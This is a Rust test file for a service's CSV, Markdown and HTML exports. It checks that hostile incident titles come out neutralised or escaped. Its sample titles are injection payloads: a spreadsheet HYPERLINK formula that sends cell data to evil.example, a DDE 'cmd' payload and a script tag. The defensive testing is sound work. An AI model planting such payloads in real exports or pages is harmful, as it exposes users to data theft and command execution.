//! Exports with hostile titles: incident titles come from alert sources anyone can write
//! to. Through every CSV (the dashboard's incident list and tables, the weekly report's
//! CSV) a cell that a spreadsheet would evaluate comes out neutralised, and the weekly
//! Markdown shows titles as text.

use mttx_fixtures::{golden, load_dataset};
use mttx_migrations::Location;
use mttx_query::Engine;
use mttx_replica::Source;

use crate::common::{folded, oneshot, scratch};

/// Week 44's incidents of account 1 (5 to 10), each titled with one dangerous first
/// character (OWASP's list: `=`, `+`, `-`, `@`, tab, carriage return), and Markdown or HTML.
const TITLES: [(i64, &str); 6] = [
    (5, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
    (6, "+cmd|' /C calc'!A0"),
    (7, "-2+3 | <script>alert(1)</script>"),
    (8, "@SUM(A1:A9)"),
    (9, "\t=1+1 [x](http://evil.example)"),
    (10, "\r=1+1 *bold*"),
];

/// Every cell of `text` (a CSV document) that begins like a formula is a number or starts
/// with the neutralising quote; returns the cells read.
fn assert_neutralised(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert!(cell.parse::<f64>().is_ok(), "a formula cell: {cell:?}");
            }
            cells.push(cell.to_owned());
        }
    }
    cells
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_titles_come_out_of_every_export_neutralised() {
    let dir = scratch("exports");
    let mut data = golden::dataset().unwrap();
    for (id, title) in TITLES {
        data.incidents
            .iter_mut()
            .find(|i| i.id == id)
            .unwrap()
            .title = title.into();
    }
    let replica = Location::Sqlite(dir.join("replica.sqlite"));
    load_dataset(&data, &replica, false).await.unwrap();
    let (facts, state) = folded(&dir, &replica).await;
    let token = state.create_token(1, "test", None).await.unwrap();
    let source = Source::open(&replica, 2).await.unwrap();
    let app = mttx_api::App::open(&facts, state, Some(source), Default::default())
        .await
        .unwrap();
    let router = mttx_api::app(app);
    let quoted: Vec<String> = TITLES.iter().map(|(_, t)| format!("'{t}")).collect();

    // The dashboard's incident list: every title, quoted.
    let (status, _, body) = oneshot(
        &router,
        "/dashboard/incidents.csv?from=2026-10-26&to=2026-11-02&tz=Europe/Berlin",
        Some(&token),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let cells = assert_neutralised(&body);
    for q in &quoted {
        assert!(cells.contains(q), "{q:?} missing in\n{body}");
    }
    // The week's escalated incidents (5 and 6) as a table.
    let (status, _, body) = oneshot(
        &router,
        "/dashboard/table.csv?week=2026-W44&tz=Europe/Berlin&table=escalated",
        Some(&token),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let cells = assert_neutralised(&body);
    for q in &quoted[..2] {
        assert!(cells.contains(q), "{q:?} missing in\n{body}");
    }

    // The weekly report of team 1 (incidents 5 and 7 to 10, 5 escalated), as CSV and
    // Markdown.
    let engine = Engine::open(&facts).await.unwrap();
    let source = Source::open(&replica, 2).await.unwrap();
    let names = source.directory(1).await.unwrap();
    let report = mttx_api::weekly::weekly(
        &engine,
        &names,
        Some(&source),
        1,
        Some(1),
        "2026-10-26".parse().unwrap(),
        "Europe/Berlin".parse().unwrap(),
    )
    .await
    .unwrap();
    let csv = mttx_api::weekly::render(&report, mttx_api::weekly::Format::Csv).unwrap();
    let cells = assert_neutralised(&csv);
    assert!(cells.contains(&quoted[0]), "{csv}");
    let md = mttx_api::weekly::render(&report, mttx_api::weekly::Format::Md).unwrap();
    let row = md
        .lines()
        .find(|l| l.starts_with("| 5 |"))
        .unwrap_or_else(|| panic!("no row of incident 5 in\n{md}"));
    // Six cells (five inner separators): the title cannot add one.
    assert_eq!(row.matches(" | ").count(), 5, "{row}");
    assert!(!md.contains("<script>"), "{md}");
    assert!(
        md.contains(r"\| &lt;script&gt;") || !md.contains("alert(1)"),
        "{md}"
    );
    let html = mttx_api::weekly::render(&report, mttx_api::weekly::Format::Html).unwrap();
    assert!(!html.contains("<script>alert"), "{html}");
}
